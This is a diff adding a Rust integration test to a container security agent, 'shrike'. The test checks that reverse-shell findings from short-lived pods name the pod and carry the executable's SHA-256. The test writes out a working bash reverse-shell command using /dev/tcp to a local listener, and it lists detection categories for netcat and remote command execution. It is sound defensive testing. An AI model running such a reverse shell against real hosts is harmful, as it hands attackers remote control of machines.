@@ -1,7 +1,8 @@
 //! Privileged: pods whose very first process is the attack and exits at once, many times, while
 //! `shrike run` lags behind so that each process, container and cgroup is gone when it reads the
-//! events. Every finding must name its pod. (Its own test binary: test binaries
-//! run one after another, and an agent sees every pod on the node, also another test's.)
+//! events. Every finding must name its pod, and the executable of a process that is gone is
+//! still hashed. (Its own test binary: test binaries run one after another, and an agent sees
+//! every pod on the node, also another test's; the tests here use distinct pod names.)
 
 #[path = "common/agent.rs"]
 mod agent;
@@ -19,6 +20,7 @@ use agent::{listen, start_agent};
 use common::privileged;
 use containerd::{Containerd, PodSpec};
 use serde_json::Value;
+use sha2::{Digest, Sha256};
 
 const NETCAT: &str = "Execution: Netcat Remote Code Execution In Container";
 const RCE: &str = "Execution: Possible Remote Command Execution Detected";
@@ -90,5 +92,52 @@ async fn first_processes_of_pods_that_exit_at_once_name_their_pod() {
     for pod in &pods {
         ctrd.remove_pod(pod).await;
     }
+    ctrd.stop();
+}
+
+/// A reverse shell whose executable comes from a volume (the host's `/usr`, bind-mounted), run
+/// by a container that is gone, mount namespace and all, when the agent reads its events: the
+/// finding still carries the executable's SHA-256, read through the container's root and mount
+/// tree as the agent pinned them while the container ran. (Without the mount tree pinned, the
+/// kernel takes the volume off the dead namespace and the agent finds an empty `/usr`.)
+#[tokio::test(flavor = "current_thread")]
+async fn executable_on_a_volume_of_a_container_that_is_gone_is_hashed() {
+    if !privileged("executable_on_a_volume_of_a_container_that_is_gone_is_hashed") {
+        return;
+    }
+    let ctrd = Containerd::start();
+    let dir = ctrd.dir.join("gone");
+    std::fs::create_dir_all(&dir).unwrap();
+    let agent = start_agent(&dir, "gone", &ctrd.socket, false);
+    let l = listen("id; exit\n");
+    // The container's first process waits, so the agent sees the container while it runs;
+    // then the agent falls behind (stopped, by its pid) before the shell starts.
+    let script = format!("sleep 3; exec bash -c 'exec bash -i >& /dev/tcp/127.0.0.1/{} 0>&1'", l.port);
+    let pod = ctrd.run_pod(&PodSpec::new("gone-volume", &["/bin/sh", "-c", &script])).await;
+    tokio::time::sleep(Duration::from_millis(1500)).await;
+    // SAFETY: signalling the agent we started, by its pid.
+    unsafe { libc::kill(agent.pid as i32, libc::SIGSTOP) };
+    let got = l.thread.join().unwrap();
+    let cgroup = Path::new("/sys/fs/cgroup").join(pod.spec.container_cgroup(&pod.container_id).trim_start_matches('/'));
+    let deadline = Instant::now() + Duration::from_secs(20);
+    while cgroup.exists() && Instant::now() < deadline {
+        tokio::time::sleep(Duration::from_millis(100)).await;
+    }
+    // SAFETY: as above.
+    unsafe { libc::kill(agent.pid as i32, libc::SIGCONT) };
+    assert!(got.contains("uid="), "the shell did not really run; listener got {got:?}");
+    assert!(!cgroup.exists(), "the container's cgroup is still there");
+    let deadline = Instant::now() + Duration::from_secs(20);
+    let of_pod = |f: &Value| f["finding"]["sourceProperties"]["Pod_Name"] == "gone-volume" && f["finding"]["category"] == REVERSE_SHELL;
+    while !agent.findings().iter().any(of_pod) && Instant::now() < deadline {
+        tokio::time::sleep(Duration::from_millis(200)).await;
+    }
+    let (findings, log) = agent.stop();
+    let rs = findings.iter().find(|f| of_pod(f)).unwrap_or_else(|| panic!("no Reverse Shell from gone-volume\n\nlog:\n{log}"));
+    let binary = &rs["finding"]["processes"][0]["binary"];
+    assert_eq!(binary["path"], "/usr/bin/bash", "{rs}");
+    let want: String = Sha256::digest(std::fs::read("/usr/bin/bash").unwrap()).iter().map(|b| format!("{b:02x}")).collect();
+    assert_eq!(binary["sha256"].as_str(), Some(want.as_str()), "the gone shell's executable, read from the volume: {rs}\n\nlog:\n{log}");
+    ctrd.remove_pod(&pod).await;
     ctrd.stop();
 }
